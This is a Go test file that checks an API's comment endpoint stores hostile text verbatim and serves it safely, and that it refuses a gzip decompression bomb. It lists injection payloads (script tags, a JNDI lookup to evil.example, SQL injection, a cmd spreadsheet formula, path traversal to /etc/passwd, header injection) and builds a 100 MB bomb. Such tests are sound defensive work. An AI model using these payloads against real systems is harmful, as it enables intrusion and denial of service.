package hostile_test

import (
	"bytes"
	"compress/gzip"
	"encoding/json"
	"io"
	"testing"
)

// payloads are texts that harm whoever takes them for something else than text.
func payloads() []string {
	return []string{
		`<script>alert(1)</script>`, `[x](javascript:alert(1))`, `![x](data:image/svg+xml;base64,PHN2Zz4=)`, `[x](//evil.example)`,
		`<svg/onload=alert(1)>`, `<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`, `</script><!--`,
		`{{constructor.constructor('alert(1)')()}}`, `${jndi:ldap://evil.example/a}`, `'; drop table events; --`, `=cmd|'/c calc'!A1`,
		`%s%s%n`, `../../etc/passwd`, "a\r\nSet-Cookie: b=c", `&lt;b&gt;`, "ﷺ ̈́ ꙮ 𝕏", `"\u0026"`,
	}
}

func TestATextIsATextAndComesBackAsItWas(t *testing.T) {
	t.Parallel()
	s := prepare(t)
	for _, text := range payloads() {
		body, err := json.Marshal(map[string]string{"text": text})
		if err != nil {
			t.Fatal(err)
		}
		note := s.give(attempt{path: "/v1/commitments/$commitment/comments", body: string(body)})
		if note["text"] != text {
			t.Errorf("A48: %q was taken as %q", text, note["text"])
		}
	}
	got := s.ask(attempt{method: "GET", path: "/v1/commitments/$commitment/comments"})
	if got.header.Get("Content-Type") != "application/json" || got.header.Get("X-Content-Type-Options") != "nosniff" {
		t.Errorf("A48: a browser could take it for a page: %v", got.header)
	}
	var notes []struct{ Text string }
	if err := json.Unmarshal(got.body, &notes); err != nil || len(notes) != len(payloads()) {
		t.Fatalf("A48: %d comments (%v)", len(notes), err)
	}
	for i, text := range payloads() {
		if notes[i].Text != text {
			t.Errorf("A48: %q came back as %q", text, notes[i].Text)
		}
	}
}

// TestACompressedBodyIsNotUnpacked sends a hundred megabytes of blanks in a hundred kilobytes.
func TestACompressedBodyIsNotUnpacked(t *testing.T) {
	t.Parallel()
	var bomb bytes.Buffer
	packed := gzip.NewWriter(&bomb)
	if _, err := io.CopyN(packed, blanks{}, 100<<20); err != nil {
		t.Fatal(err)
	}
	if err := packed.Close(); err != nil {
		t.Fatal(err)
	}
	var rows []refused
	for _, encoding := range []string{"gzip", "deflate", "br", "zstd", "identity", "gzip, gzip"} {
		rows = append(rows, refused{"A11 " + encoding, attempt{body: bomb.String(), headers: map[string]string{"Content-Encoding": encoding}}, 415, "unsupported-encoding", ""})
	}
	prepare(t).refuse(append(rows, refused{"A11 without saying so", attempt{body: bomb.String()}, 400, "invalid-utf8", ""}))
}

// blanks is a text of blanks without end.
type blanks struct{}

func (blanks) Read(b []byte) (int, error) {
	for i := range b {
		b[i] = ' '
	}
	return len(b), nil
}
